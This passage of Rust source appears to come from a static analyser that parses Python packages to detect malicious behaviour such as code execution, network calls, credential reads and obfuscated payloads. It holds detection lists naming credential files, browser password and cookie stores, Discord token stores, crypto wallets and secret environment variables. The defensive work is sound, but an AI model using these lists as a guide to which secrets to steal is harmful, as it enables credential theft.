        // name evaluated to reach the function without writing it.
        if matches!(fname.as_str(), "eval" | "builtins.eval") {
            let args = n.field("arguments")?;
            let name = self.const_str(args.named_child(0)?, scope, 0)?;
            let name = name.trim();
            let dotted = !name.is_empty()
                && name.len() <= 64
                && name.split('.').all(|p| {
                    !p.is_empty()
                        && p.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                        && !p.as_bytes()[0].is_ascii_digit()
                });
            if !dotted {
                return None;
            }
            return Some((normalise_builtin(name), true));
        }
        if !matches!(fname.as_str(), "getattr" | "builtins.getattr") {
            return None;
        }
        let args = n.field("arguments")?;
        let obj = args.named_child(0)?;
        let name = self.const_str(args.named_child(1)?, scope, 0)?;
        let base = self.dotted(obj, scope).unwrap_or_else(|| "?".to_owned());
        Some((join_target(&base, &name), true))
    }

    /// Resolve a callee to (target, receiver labels, indirect).
    fn callee(&mut self, f: N<'t>, scope: Option<usize>, depth: usize) -> (String, Labels, bool) {
        if depth > MAX_DEPTH {
            return ("?".to_owned(), Labels::NONE, false);
        }
        match f.k() {
            "identifier" => {
                let t = self.text(f).to_owned();
                if let Some(q) = self.imports.get(&t) {
                    return (q.clone(), Labels::NONE, false);
                }
                if self.local_fns.contains_key(&t) {
                    return (format!("local:{t}"), Labels::NONE, false);
                }
                if let Some(a) = self.lookup_alias(scope, &t) {
                    return (a.to_owned(), Labels::NONE, false);
                }
                (t, Labels::NONE, false)
            }
            "attribute" => {
                let attr = f
                    .field("attribute")
                    .map(|a| self.text(a).to_owned())
                    .unwrap_or_default();
                let obj = f.field("object");
                let recv = obj
                    .map(|o| self.labels(o, scope, depth + 1))
                    .unwrap_or_default();
                if let Some(d) = self.dotted(f, scope) {
                    let rooted =
                        is_module_rooted(&d, &self.import_roots) || d.starts_with("builtins.");
                    let indirect = obj.is_some_and(|o| o.k() == "call");
                    if rooted {
                        return (normalise_builtin(&d), recv, indirect);
                    }
                    // a method on a variable: keep the variable's text so
                    // well-known receivers (`os.environ.get`) still match.
                    return (d, recv, false);
                }
                if let Some(o) = obj
                    && o.k() == "call"
                    && let Some((t, _)) = self.getattr_target(o, scope)
                {
                    return (normalise_builtin(&format!("{t}.{attr}")), recv, true);
                }
                (format!("?.{attr}"), recv, false)
            }
            "call" => {
                if let Some((t, ind)) = self.getattr_target(f, scope) {
                    return (normalise_builtin(&t), Labels::NONE, ind);
                }
                ("?".to_owned(), Labels::NONE, false)
            }
            "subscript" => {
                // `__builtins__.__dict__['exec']`, `globals()['eval']`
                let key = f
                    .field("subscript")
                    .and_then(|s| self.const_str(s, scope, 0));
                match key {
                    Some(k) if is_code_sink_name(&k) || is_proc_sink_name(&k) => {
                        (k, Labels::NONE, true)
                    }
                    _ => ("?".to_owned(), Labels::NONE, false),
                }
            }
            "parenthesized_expression" => match f.named_child(0) {
                Some(c) => self.callee(c, scope, depth + 1),
                None => ("?".to_owned(), Labels::NONE, false),
            },
            _ => ("?".to_owned(), Labels::NONE, false),
        }
    }

    /// Labels of an expression.
    fn labels(&mut self, n: N<'t>, scope: Option<usize>, depth: usize) -> Labels {
        if depth > MAX_DEPTH {
            return Labels::NONE;
        }
        if self.use_memo
            && let Some(Some(l)) = self.memo.get(n.id())
        {
            return *l;
        }
        let l = self.labels_inner(n, scope, depth);
        if self.use_memo
            && let Some(m) = self.memo.get_mut(n.id())
        {
            *m = Some(l);
        }
        l
    }

    fn labels_inner(&mut self, n: N<'t>, scope: Option<usize>, depth: usize) -> Labels {
        match n.k() {
            "identifier" => {
                let t = self.text(n).to_owned();
                self.lookup_var(scope, &t)
            }
            "attribute" => {
                let mut l = Labels::NONE;
                // Long chains (`a.b(…).c(…)…`) are not variables; skip the
                // lookup so its cost stays linear.
                if n.byte_range().len() <= 256
                    && let Some(d) = self.dotted(n, scope)
                {
                    l |= attr_labels(&d);
                    let t = self.text(n).to_owned();
                    l |= self.lookup_var(scope, &t);
                }
                if let Some(o) = n.field("object") {
                    l |= self.labels(o, scope, depth + 1);
                }
                l
            }
            "subscript" => {
                let value = n.field("value");
                let key = n.field("subscript");
                if let Some(v) = value
                    && self.dotted(v, scope).as_deref() == Some("os.environ")
                {
                    return key
                        .and_then(|k| self.const_str(k, scope, 0))
                        .map(|k| env_key_labels(&k))
                        .unwrap_or(Labels::NONE);
                }
                let mut l = Labels::NONE;
                if let Some(v) = value {
                    l |= self.labels(v, scope, depth + 1);
                }
                l
            }
            "call" => self.call_labels(n, scope, depth),
            "string" => {
                let v = self.string_value(n);
                let mut l = string_labels(&v);
                for c in children(n) {
                    if c.k() == "interpolation" {
                        l |= self.labels(c, scope, depth + 1);
                    }
                }
                l
            }
            "lambda" | "function_definition" | "class_definition" | "comment" => Labels::NONE,
            _ => {
                let mut l = Labels::NONE;
                for c in children(n) {
                    l |= self.labels(c, scope, depth + 1);
                }
                l
            }
        }
    }

    fn call_labels(&mut self, n: N<'t>, scope: Option<usize>, depth: usize) -> Labels {
        let Some(f) = n.field("function") else {
            return Labels::NONE;
        };
        let (target, recv, _) = self.callee(f, scope, depth + 1);
        let args = n.field("arguments");
        let mut argl = Labels::NONE;
        let mut strings = Vec::new();
        if let Some(a) = args {
            for c in children(a) {
                argl |= self.labels(c, scope, depth + 1);
            }
            strings = self.list_strings(a, scope, depth + 1);
        }
        let method = target.rsplit('.').next().unwrap_or(&target).to_owned();
        // Methods on a socket/network object return what came over the wire.
        let mut l = result_labels(&target, &method, recv, &strings);
        if is_chr_join(self, n, scope) {
            l |= Labels::CHR | Labels::DECODED;
        }
        if target == "os.getenv" || target == "os.environ.get" || target == "os.environ.setdefault"
        {
            return strings
                .first()
                .map(|k| env_key_labels(k))
                .unwrap_or(Labels::NONE);
        }
        let bare = if f.k() == "parenthesized_expression" {
            f.named_child(0).unwrap_or(f)
        } else {
            f
        };
        if bare.k() == "identifier"
            && let Some(body) = self.lambdas.get(self.text(bare)).copied()
        {
            l |= self.labels(body, scope, depth + 1);
        }
        // Local function results carry what they return.
        if let Some(fns) = self.local_targets(f, scope) {
            for fi in fns {
                l |= self.fn_ret.get(&fi).copied().unwrap_or_default();
            }
        }
        // A socket's port number or peer name is not a socket.
        let recv = if recv.has(Labels::SOCKET)
            && !matches!(
                method.as_str(),
                "fileno"
                    | "accept"
                    | "dup"
                    | "makefile"
                    | "detach"
                    | "recv"
                    | "recvfrom"
                    | "recv_into"
                    | "connect"
                    | "wrap_socket"
            ) {
            Labels(recv.0 & !(Labels::SOCKET.0 | Labels::NETOBJ.0))
        } else {
            recv
        };
        // Other results carry what flowed in (a coarse summary).
        l | argl | recv
    }

    fn build_calls(&mut self) -> Vec<Call> {
        self.use_memo = true;
        // Function summaries: direct effects, then through local calls.
        let mut direct: Vec<(Option<usize>, Caps, Option<Vec<usize>>)> = Vec::new();
        let nodes = self.call_nodes.clone();
        let mut out = Vec::with_capacity(nodes.len());
        for &(n, scope) in &nodes {
            let Some(f) = n.field("function") else {
                continue;
            };
            let (target, recv, indirect) = self.callee(f, scope, 0);
            let local = self.local_targets(f, scope);
            let method = target.rsplit('.').next().unwrap_or(&target).to_owned();
            let mut call = Call {
                method,
                recv,
                indirect,
                target,
                line: line_col(n).0,
                col: line_col(n).1,
                text: self.text_prefix(n, 400),
                arg_labels: Labels::NONE,
                first_labels: Labels::NONE,
                strings: Vec::new(),
                idents: Vec::new(),
                kwargs: Vec::new(),
                kw_labels: Vec::new(),
                npos: 0,
                built: false,
                caps: Caps::default(),
                result: Labels::NONE,
                scope,
            };
            if let Some(args) = n.field("arguments") {
                self.fill_args(&mut call, args, scope);
            }
            call.result = self.labels(n, scope, 0);
            call.caps = direct_caps(&call);
            direct.push((scope, call.caps, local));
            out.push(call);
        }
        for &(n, scope) in &self.exec_stmts.clone() {
            let mut call = Call {
                target: "exec".to_owned(),
                method: "exec".to_owned(),
                recv: Labels::NONE,
                indirect: false,
                line: line_col(n).0,
                col: line_col(n).1,
                text: self.text_prefix(n, 400),
                arg_labels: Labels::NONE,
                first_labels: Labels::NONE,
                strings: Vec::new(),
                idents: Vec::new(),
                kwargs: Vec::new(),
                kw_labels: Vec::new(),
                npos: 1,
                built: false,
                caps: Caps::CODE,
                result: Labels::NONE,
                scope,
            };
            if let Some(code) = n.field("code") {
                call.first_labels = self.labels(code, scope, 0);
                call.arg_labels = call.first_labels;
                call.strings = self.const_values(code, scope, 0);
                if code.k() == "identifier" {
                    call.idents.push(self.text(code).to_owned());
                }
            }
            direct.push((scope, Caps::CODE, None));
            out.push(call);
        }
        // Summarise functions: direct effects plus those of local callees.
        for (scope, caps, _) in &direct {
            if let Some(s) = scope {
                self.functions[*s].caps |= *caps;
            }
        }
        for _ in 0..3 {
            for (scope, _, local) in &direct {
                if let (Some(s), Some(l)) = (scope, local) {
                    let mut c = Caps::default();
                    for &fi in l {
                        c |= self.functions[fi].caps;
                    }
                    self.functions[*s].caps |= c;
                }
            }
        }
        for (call, (_, _, local)) in out.iter_mut().zip(direct.iter()) {
            if let Some(l) = local {
                for &fi in l {
                    call.caps |= self.functions[fi].caps;
                }
            }
        }
        out
    }

    fn fill_args(&mut self, call: &mut Call, args: N<'t>, scope: Option<usize>) {
        let mut first = true;
        for c in children(args) {
            let (value, kw) = if c.k() == "keyword_argument" {
                let name = c
                    .field("name")
                    .map(|x| self.text(x).to_owned())
                    .unwrap_or_default();
                let v = c.field("value");
                if let Some(v) = v {
                    call.kwargs
                        .push((name, self.text(v).chars().take(200).collect()));
                }
                (v, true)
            } else {
                (Some(c), false)
            };
            let Some(v) = value else { continue };
            let l = self.labels(v, scope, 0);
            call.arg_labels |= l;
            if kw && let Some((k, _)) = call.kwargs.last() {
                call.kw_labels.push((k.clone(), l));
            }
            if !kw {
                call.npos += 1;
                if first {
                    call.first_labels = l;
                    first = false;
                }
            }
            if matches!(v.k(), "binary_operator" | "concatenated_string")
                || (v.k() == "string" && children(v).iter().any(|x| x.k() == "interpolation"))
                || (v.k() == "call"
                    && v.field("function")
                        .and_then(|f| f.field("attribute"))
                        .is_some_and(|a| self.text(a) == "format"))
            {
                call.built = true;
            }
            self.collect_strings(v, scope, &mut call.strings, &mut call.idents, 0);
        }
    }

    /// Resolved strings and identifiers inside an argument expression.
    fn collect_strings(
        &self,
        n: N<'t>,
        scope: Option<usize>,
        out: &mut Vec<String>,
        idents: &mut Vec<String>,
        depth: usize,
    ) {
        if depth > 24 || out.len() > 256 {
            return;
        }
        match n.k() {
            "string" | "concatenated_string" | "binary_operator" => {
                let v = self.const_values(n, scope, 0);
                if v.is_empty() && n.k() == "binary_operator" {
                    for c in children(n) {
                        self.collect_strings(c, scope, out, idents, depth + 1);
                    }
                } else {
                    out.extend(v.into_iter().take(8));
                    if n.k() == "binary_operator" {
                        for c in children(n) {
                            if c.k() == "identifier" {
                                idents.push(self.text(c).to_owned());
                            }
                        }
                    }
                }
            }
            "identifier" => {
                let t = self.text(n);
                idents.push(t.to_owned());
                if let Some(v) = self.lookup_consts(scope, t) {
                    out.extend(v.iter().take(8).cloned());
                }
            }
            "lambda" => {}
            _ => {
                if n.k() == "call" {
                    let v = self.const_values(n, scope, 0);
                    if !v.is_empty() {
                        out.extend(v.into_iter().take(8));
                        return;
                    }
                }
                for c in children(n) {
                    self.collect_strings(c, scope, out, idents, depth + 1);
                }
            }
        }
    }
}

fn join_target(base: &str, name: &str) -> String {
    if base == "builtins" {
        name.to_owned()
    } else {
        format!("{base}.{name}")
    }
}

fn normalise_builtin(d: &str) -> String {
    d.strip_prefix("builtins.")
        .or_else(|| d.strip_prefix("__builtin__."))
        .unwrap_or(d)
        .to_owned()
}

fn is_module_rooted(d: &str, import_roots: &HashSet<String>) -> bool {
    let root = d.split('.').next().unwrap_or(d);
    import_roots.contains(root) || matches!(root, "builtins" | "__builtins__" | "__builtin__")
}

/// `''.join(chr(x) for x in …)`, `''.join(map(chr, …))`.
fn is_chr_join(b: &Builder<'_, '_>, n: N<'_>, _scope: Option<usize>) -> bool {
    let Some(f) = n.field("function") else {
        return false;
    };
    if f.k() != "attribute" || f.field("attribute").map(|a| b.text(a)) != Some("join") {
        return false;
    }
    let Some(args) = n.field("arguments") else {
        return false;
    };
    let t = b.text_prefix(args, 2048);
    t.contains("chr(") || t.contains("map(chr") || t.contains("chr,")
}

/// Code-executing builtins.
#[must_use]
pub fn is_code_sink_name(t: &str) -> bool {
    matches!(
        t,
        "exec"
            | "eval"
            | "execfile"
            | "compile"
            | "__import__"
            | "importlib.import_module"
            | "types.FunctionType"
            | "types.CodeType"
            | "marshal.loads"
            | "pickle.loads"
            | "cPickle.loads"
            | "runpy.run_path"
            | "runpy.run_module"
    )
}

/// Process-starting functions.
#[must_use]
pub fn is_proc_sink_name(t: &str) -> bool {
    matches!(
        t,
        "os.system"
            | "os.popen"
            | "os.popen2"
            | "os.popen3"
            | "os.popen4"
            | "os.startfile"
            | "os.execl"
            | "os.execle"
            | "os.execlp"
            | "os.execlpe"
            | "os.execv"
            | "os.execve"
            | "os.execvp"
            | "os.execvpe"
            | "os.spawnl"
            | "os.spawnle"
            | "os.spawnlp"
            | "os.spawnv"
            | "os.spawnve"
            | "os.spawnvp"
            | "os.posix_spawn"
            | "os.posix_spawnp"
            | "subprocess.Popen"
            | "subprocess.call"
            | "subprocess.run"
            | "subprocess.check_call"
            | "subprocess.check_output"
            | "subprocess.getoutput"
            | "subprocess.getstatusoutput"
            | "commands.getoutput"
            | "commands.getstatusoutput"
            | "pty.spawn"
            | "platform.popen"
            | "asyncio.create_subprocess_shell"
            | "asyncio.create_subprocess_exec"
            | "system"
            | "popen"
    )
}

/// Functions that open a network conversation with their arguments.
#[must_use]
pub fn is_net_call(c: &Call) -> bool {
    let t = c.target.as_str();
    let m = c.method.as_str();
    let http_verbs = matches!(
        m,
        "get" | "post" | "put" | "patch" | "delete" | "head" | "request" | "options" | "stream"
    );
    if (t.starts_with("requests.") || t.starts_with("httpx.")) && http_verbs {
        return true;
    }
    if matches!(
        t,
        "urllib.request.urlopen"
            | "urllib2.urlopen"
            | "urllib.urlopen"
            | "urllib.request.urlretrieve"
            | "urllib.urlretrieve"
            | "six.moves.urllib.request.urlopen"
            | "urllib3.request"
            | "wget.download"
            | "http.client.HTTPConnection"
            | "http.client.HTTPSConnection"
            | "httplib.HTTPConnection"
            | "httplib.HTTPSConnection"
            | "socket.create_connection"
            | "smtplib.SMTP"
            | "smtplib.SMTP_SSL"
            | "ftplib.FTP"
            | "telnetlib.Telnet"
            | "urlopen"
            | "urlretrieve"
    ) {
        return true;
    }
    if c.recv.has(Labels::SOCKET)
        && matches!(m, "connect" | "connect_ex" | "send" | "sendall" | "sendto")
    {
        return true;
    }
    if c.recv.has(Labels::NETOBJ)
        && (http_verbs
            || matches!(
                m,
                "urlopen" | "putrequest" | "sendmail" | "send_message" | "storbinary" | "storlines"
            ))
    {
        return true;
    }
    false
}

/// A DNS resolution (a channel for exfiltration when the name is built).
#[must_use]
pub fn is_dns_call(c: &Call) -> bool {
    matches!(
        c.target.as_str(),
        "socket.gethostbyname"
            | "socket.gethostbyname_ex"
            | "socket.getaddrinfo"
            | "dns.resolver.resolve"
            | "dns.resolver.query"
            | "dns.resolver.Resolver.resolve"
    ) || (c.method == "resolve" || c.method == "query") && c.target.contains("resolver")
}

/// True when the call writes a file (`open(p, 'w')`, `write_bytes`…).
#[must_use]
pub fn is_write_call(c: &Call) -> bool {
    let t = c.target.as_str();
    if matches!(t, "open" | "io.open" | "codecs.open") {
        let mode = c
            .kwarg("mode")
            .map(str::to_owned)
            .or_else(|| c.strings.get(1).map(|s| format!("'{s}'")));
        return mode.is_some_and(|m| {
            let m = m.trim_matches(|ch| ch == '\'' || ch == '"');
            m.len() <= 4 && (m.contains('w') || m.contains('a') || m.contains('x'))
        });
    }
    matches!(c.method.as_str(), "write_text" | "write_bytes")
        || matches!(
            t,
            "shutil.copy" | "shutil.copyfile" | "shutil.copy2" | "shutil.move" | "os.rename"
        )
}

fn direct_caps(c: &Call) -> Caps {
    let mut caps = Caps::default();
    if is_net_call(c) {
        caps |= Caps::NET;
    }
    if is_code_sink_name(&c.target) {
        caps |= Caps::CODE;
    }
    if is_proc_sink_name(&c.target) {
        caps |= Caps::PROC;
    }
    if is_write_call(c) {
        caps |= Caps::WRITE;
    }
    caps
}

/// Labels of the value a call returns, by what the call is.
fn result_labels(target: &str, method: &str, recv: Labels, strings: &[String]) -> Labels {
    let mut l = Labels::NONE;
    match target {
        "socket.gethostname" | "platform.node" | "socket.getfqdn" | "os.uname"
        | "platform.uname" => {
            l |= Labels::HOST;
        }
        "getpass.getuser"
        | "os.getlogin"
        | "pwd.getpwuid"
        | "os.getuid"
        | "win32api.GetUserName" => {
            l |= Labels::USER;
        }
        "uuid.getnode"
        | "netifaces.ifaddresses"
        | "netifaces.interfaces"
        | "psutil.net_if_addrs" => {
            l |= Labels::IP;
        }
        "platform.system"
        | "platform.platform"
        | "platform.release"
        | "platform.version"
        | "platform.machine"
        | "platform.processor"
        | "platform.architecture" => l |= Labels::OS,
        "socket.gethostbyname" | "socket.gethostbyname_ex" => l |= Labels::IP,
        "base64.b64decode"
        | "base64.decodebytes"
        | "base64.decodestring"
        | "base64.b32decode"
        | "base64.b16decode"
        | "base64.b85decode"
        | "base64.a85decode"
        | "base64.urlsafe_b64decode"
        | "base64.standard_b64decode"
        | "binascii.a2b_base64"
        | "binascii.unhexlify"
        | "binascii.a2b_hex"
        | "bytes.fromhex"
        | "bytearray.fromhex"
        | "codecs.decode"
        | "zlib.decompress"
        | "gzip.decompress"
        | "bz2.decompress"
        | "lzma.decompress"
        | "marshal.loads"
        | "b64decode"
        | "unhexlify"
        | "decompress" => {
            l |= Labels::DECODED;
        }
        "socket.socket" | "socket.create_connection" => l |= Labels::SOCKET | Labels::NETOBJ,
        "requests.Session"
        | "requests.session"
        | "httpx.Client"
        | "httpx.AsyncClient"
        | "urllib3.PoolManager"
        | "http.client.HTTPConnection"
        | "http.client.HTTPSConnection"
        | "httplib.HTTPConnection"
        | "httplib.HTTPSConnection"
        | "aiohttp.ClientSession"
        | "smtplib.SMTP"
        | "smtplib.SMTP_SSL"
        | "ftplib.FTP"
        | "telnetlib.Telnet"
        | "urllib.request.build_opener"
        | "urllib2.build_opener" => l |= Labels::NETOBJ,
        "open" | "io.open" | "codecs.open" => l |= Labels::FILEDATA,
        "PIL.Image.open" | "Image.open" | "imageio.imread" | "cv2.imread" => l |= Labels::IMAGE,
        "subprocess.check_output"
        | "subprocess.getoutput"
        | "os.popen"
        | "commands.getoutput"
        | "subprocess.getstatusoutput" => {
            l |= Labels::PROCOUT;
            let cmd = strings.join(" ").to_ascii_lowercase();
            for (w, lab) in [
                ("whoami", Labels::USER),
                ("hostname", Labels::HOST),
                ("uname", Labels::OS),
                ("ifconfig", Labels::IP),
                ("ipconfig", Labels::IP),
                ("systeminfo", Labels::OS | Labels::HOST),
            ] {
                if cmd.split_whitespace().any(|t| t == w) {
                    l |= lab;
                }
            }
        }
        _ => {}
    }
    if target.starts_with("stegano.") || target.contains("lsb.reveal") {
        l |= Labels::IMAGE | Labels::DECODED;
    }
    if matches!(
        method,
        "b64decode"
            | "decodebytes"
            | "unhexlify"
            | "fromhex"
            | "decompress"
            // Fernet(key).decrypt(token), AES.new(…).decrypt(…),
            // cipher.decryptor().update(…): decrypted bytes are decoded
            // bytes with a key.
            | "decrypt"
            | "decrypt_and_verify"
    ) {
        l |= Labels::DECODED;
    }
    if method == "decode" {
        let codec = strings.first().map(|s| s.to_ascii_lowercase());
        if codec.as_deref().is_some_and(|c| {
            matches!(
                c,
                "base64"
                    | "base-64"
                    | "hex"
                    | "rot13"
                    | "rot_13"
                    | "rot-13"
                    | "zlib"
                    | "bz2"
                    | "uu"
                    | "base64_codec"
                    | "hex_codec"
                    | "zlib_codec"
            )
        }) {
            l |= Labels::DECODED;
        }
    }
    let fetched_target = matches!(
        target,
        "urllib.request.urlopen"
            | "urllib2.urlopen"
            | "urllib.urlopen"
            | "urlopen"
            | "six.moves.urllib.request.urlopen"
            | "urllib3.request"
            | "wget.download"
    ) || ((target.starts_with("requests.") || target.starts_with("httpx."))
        && matches!(method, "get" | "post" | "request"));
    if fetched_target {
        l |= Labels::FETCHED;
        if strings.iter().any(|s| is_ip_lookup_service(s)) {
            l |= Labels::IP;
        }
    }
    if recv.has(Labels::NETOBJ)
        && matches!(
            method,
            "get"
                | "post"
                | "request"
                | "recv"
                | "recvfrom"
                | "getresponse"
                | "urlopen"
                | "open"
                | "read"
                | "makefile"
        )
    {
        l |= Labels::FETCHED;
    }
    if recv.has(Labels::FETCHED) {
        l |= Labels::FETCHED;
    }
    if recv.has(Labels::IMAGE) && matches!(method, "getdata" | "getpixel" | "tobytes" | "load") {
        l |= Labels::IMAGE;
    }
    l
}

fn is_ip_lookup_service(s: &str) -> bool {
    let s = s.to_ascii_lowercase();
    [
        "api.ipify.org",
        "ipinfo.io",
        "ip-api.com",
        "ifconfig.me",
        "icanhazip.com",
        "checkip.amazonaws.com",
        "ident.me",
        "myexternalip.com",
    ]
    .iter()
    .any(|h| s.contains(h))
}

/// Labels of a dotted attribute read (not a call).
fn attr_labels(d: &str) -> Labels {
    match d {
        "os.environ" => Labels::ENV_ALL,
        "sys.platform" | "os.name" => Labels::OS,
        _ => Labels::NONE,
    }
}

/// Labels of reading one environment variable.
#[must_use]
pub fn env_key_labels(k: &str) -> Labels {
    let u = k.to_ascii_uppercase();
    if matches!(u.as_str(), "USER" | "USERNAME" | "LOGNAME") {
        return Labels::USER;
    }
    if matches!(u.as_str(), "HOSTNAME" | "COMPUTERNAME" | "USERDOMAIN") {
        return Labels::HOST;
    }
    if is_secret_env(&u) {
        return Labels::SECRET;
    }
    Labels::NONE
}

/// Environment variables that hold credentials.
#[must_use]
pub fn is_secret_env(u: &str) -> bool {
    let u = u.to_ascii_uppercase();
    matches!(
        u.as_str(),
        "AWS_SECRET_ACCESS_KEY"
            | "AWS_SESSION_TOKEN"
            | "AWS_ACCESS_KEY_ID"
            | "GITHUB_TOKEN"
            | "GH_TOKEN"
            | "NPM_TOKEN"
            | "NODE_AUTH_TOKEN"
            | "PYPI_TOKEN"
            | "TWINE_PASSWORD"
            | "GITLAB_TOKEN"
            | "CI_JOB_TOKEN"
            | "AZURE_CLIENT_SECRET"
            | "GOOGLE_APPLICATION_CREDENTIALS"
            | "SLACK_TOKEN"
            | "DISCORD_TOKEN"
            | "OPENAI_API_KEY"
            | "DOCKER_PASSWORD"
            | "HEROKU_API_KEY"
    )
}

/// Labels a string literal carries on its own.
fn string_labels(v: &str) -> Labels {
    if v.len() < 4 || v.len() > 4096 {
        return Labels::NONE;
    }
    if sensitive_path(v).is_some() || is_secret_env(v) {
        return Labels::SECRET;
    }
    Labels::NONE
}

/// Credential stores a package has no business reading: the kind, when `s`
/// names one.
#[must_use]
pub fn sensitive_path(s: &str) -> Option<&'static str> {
    if s.len() > 4096 {
        return None;
    }
    let l = s.to_ascii_lowercase().replace('\\', "/");
    const P: [(&str, &str); 43] = [
        ("/.ssh/id_", "ssh private key"),
        ("~/.ssh", "ssh keys"),
        ("/.ssh/", "ssh keys"),
        ("/.gnupg", "gpg keys"),
        ("~/.gnupg", "gpg keys"),
        (".aws/credentials", "aws credentials"),
        ("~/.npmrc", "npm token"),
        ("/.npmrc", "npm token"),
        ("~/.pypirc", "pypi token"),
        ("/.pypirc", "pypi token"),
        (".docker/config.json", "docker credentials"),
        (".kube/config", "kubernetes credentials"),
        (".git-credentials", "git credentials"),
        ("~/.netrc", "netrc credentials"),
        ("/etc/shadow", "password hashes"),
        ("/etc/passwd", "user list"),
        ("local storage/leveldb", "browser/discord token store"),
        ("/login data", "browser saved passwords"),
        ("user data/default/cookies", "browser cookies"),
        ("/network/cookies", "browser cookies"),
        ("telegram desktop/tdata", "telegram session"),
        ("wallet.dat", "crypto wallet"),
        ("exodus/exodus.wallet", "crypto wallet"),
        ("/keychains/", "macos keychain"),
        (".config/gcloud", "gcloud credentials"),
        (".azure/", "azure credentials"),
        (".bash_history", "shell history"),
        (".zsh_history", "shell history"),
        ("firefox/profiles", "firefox profile"),
        ("key4.db", "firefox saved passwords"),
        ("logins.json", "firefox saved passwords"),
        ("/local state", "browser master key"),
        (
            "nkbihfbeogaeaoehlefnkodbefgpgknn",
            "crypto wallet (metamask)",
        ),
        ("electrum/wallets", "crypto wallet"),
        ("atomic/local storage", "crypto wallet"),
        ("ethereum/keystore", "crypto wallet"),
        ("coinomi/", "crypto wallet"),
        ("/discord/", "discord token store"),
        ("discordcanary", "discord token store"),
        ("discordptb", "discord token store"),
        ("lightcord", "discord token store"),
        ("application_default_credentials.json", "gcloud credentials"),
        ("/.kube/", "kubernetes credentials"),
    ];
    for (pat, kind) in P {
        if l.contains(pat) {
            return Some(kind);
        }
    }
    // ~/.ssh and ~/.gnupg written as separate components: join("~", ".ssh")
    let comps: Vec<&str> = l.split('/').collect();
    if comps.contains(&".ssh") {
        return Some("ssh keys");
    }
    if comps.contains(&".gnupg") {
        return Some("gpg keys");
    }
    None
}

/// Apply Python escape sequences (best effort; unknown escapes stay).
fn unescape_into(t: &str, bytes: bool, out: &mut String) {
    let mut it = t.chars().peekable();
    while let Some(c) = it.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = it.next() else {
            out.push('\\');
            break;
        };
        match e {
            'n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            '0'..='7' => {
                let mut v = e.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    match it.peek().and_then(|d| d.to_digit(8)) {
                        Some(d) => {
                            v = v * 8 + d;
                            it.next();
                        }
                        None => break,
                    }
                }
                out.push(char::from_u32(v).unwrap_or('\u{fffd}'));
            }
            'x' => {
                let h: String = (0..2).filter_map(|_| it.next()).collect();
                match u32::from_str_radix(&h, 16).ok().and_then(char::from_u32) {
                    Some(ch) => out.push(ch),
                    None => {
                        out.push_str("\\x");
                        out.push_str(&h);
                    }
                }
            }
            'u' | 'U' if !bytes => {
                let n = if e == 'u' { 4 } else { 8 };
                let h: String = (0..n).filter_map(|_| it.next()).collect();
                match u32::from_str_radix(&h, 16).ok().and_then(char::from_u32) {
                    Some(ch) => out.push(ch),
                    None => {
                        out.push('\\');
                        out.push(e);
                        out.push_str(&h);
                    }
                }
            }
            '\n' => {}
            '\\' | '\'' | '"' => out.push(e),
            'a' => out.push('\u{7}'),
            'b' => out.push('\u{8}'),
            'f' => out.push('\u{c}'),
            'v' => out.push('\u{b}'),
            other => {
                out.push('\\');
                out.push(other);
            }
        }
    }
}

/// The value of a string or concatenated-string literal node.
#[must_use]
pub fn literal(n: Node<'_>, src: &[u8]) -> Option<String> {
    fn children<'t>(n: Node<'t>) -> Vec<Node<'t>> {
        let mut c = n.walk();
        n.named_children(&mut c).collect()
    }
    fn one(n: Node<'_>, src: &[u8]) -> String {
        let mut raw = false;
        let mut bytes = false;
        let mut out = String::new();
        for c in children(n) {
            let t = c.utf8_text(src).unwrap_or("");
            match c.kind() {
                "string_start" => {
                    let p = t.to_ascii_lowercase();
                    raw = p.contains('r');
                    bytes = p.contains('b');
                }
                "string_content" if raw => out.push_str(t),
                "string_content" => unescape_into(t, bytes, &mut out),
                "interpolation" => out.push_str("{}"),
                _ => {}
            }
        }
        out
    }
    match n.kind() {
        "string" => Some(one(n, src)),
        "concatenated_string" => Some(children(n).into_iter().map(|c| one(c, src)).collect()),
        "parenthesized_expression" => n.named_child(0).and_then(|c| literal(c, src)),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::FileRole;

    fn facts_of(src: &str) -> Vec<Call> {
        let file = SourceFile {
            path: "x.py",
            text: src,
            role: FileRole::Library,
        };
        let mut p = tree_sitter::Parser::new();
        p.set_language(&tree_sitter_python::LANGUAGE.into())
            .unwrap();
        let tree = p.parse(src, None).unwrap();
        extract(file, &tree).calls
    }

    /// The flat tree answers kind, range, position, named children and
    /// every field exactly as tree-sitter's own node API does, on code with
    /// syntax errors, Python 2 statements and hidden grammar nodes.
    #[test]
    fn flat_tree_matches_the_node_api() {
        let src = "import os, sys as s\nfrom . import x\nprint 'py2'\nclass A(B, c.D):\n    def f(self, a=1, *b, **k) -> int:\n        return [i for i in a if i] + {'k': v for v in b}\nx = lambda q: q[1:2]\ny = (yield)\nexec code in ns\nz = f'{a!r:>{w}}' 'tail'\nif (n := 3) and not x: pass\nbroken(((\n";
        let mut p = tree_sitter::Parser::new();
        p.set_language(&tree_sitter_python::LANGUAGE.into())
            .unwrap();
        let tree = p.parse(src, None).unwrap();
        let nodes = flatten(&tree, &crate::syntax::PYTHON);
        let lang: tree_sitter::Language = tree_sitter_python::LANGUAGE.into();
        let fields: Vec<&str> = (1..=lang.field_count())
            .filter_map(|i| lang.field_name_for_id(u16::try_from(i).ok()?))
            .collect();
        // Walk both trees in step through named children.
        let mut pending = vec![(
            tree.root_node(),
            N {
                nodes: &nodes,
                i: 0,
            },
        )];
        let mut seen = 0;
        while let Some((t, f)) = pending.pop() {
            seen += 1;
            assert_eq!(t.kind(), f.k());
            assert_eq!(t.byte_range(), f.byte_range());
            let pos = t.start_position();
            assert_eq!(
                line_col(f),
                (pos.row as u32 + 1, pos.column as u32 + 1),
                "{}",
                t.kind()
            );
            for &name in &fields {
                let a = t.child_by_field_name(name).map(|c| c.byte_range());
                let b = f.field(name).map(|c| c.byte_range());
                assert_eq!(a, b, "field {name} of {}", t.kind());
            }
            let mut c = t.walk();
            let tk: Vec<_> = t.named_children(&mut c).collect();
            let fk: Vec<_> = f.named_kids().collect();
            assert_eq!(tk.len(), fk.len(), "children of {}", t.kind());
            for (i, (a, b)) in tk.into_iter().zip(fk).enumerate() {
